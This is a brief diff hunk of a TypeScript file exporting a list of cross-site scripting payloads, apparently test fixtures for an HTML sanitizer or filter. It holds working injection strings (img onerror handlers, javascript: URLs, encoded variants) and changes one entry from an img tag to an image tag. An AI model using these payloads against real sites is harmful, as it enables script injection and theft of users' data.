@@ -70,7 +70,7 @@ export const PAYLOADS: readonly string[] = [
   `<div style="background:url(javascript:${RUN})">x</div>`,
   `<template><img src=x onerror="${RUN}"></template>`,
   // odd encodings
-  `\u003cimg src=x onerror=${RUN}\u003e`,
+  `\u003cimage src=x onerror=${RUN}\u003e`,
   `%3Cimg%20src%3Dx%20onerror%3D${RUN}%3E`,
   `&lt;img src=x onerror=${RUN}&gt;`,
   `<img src=x onerror\u00a0="${RUN}">`,
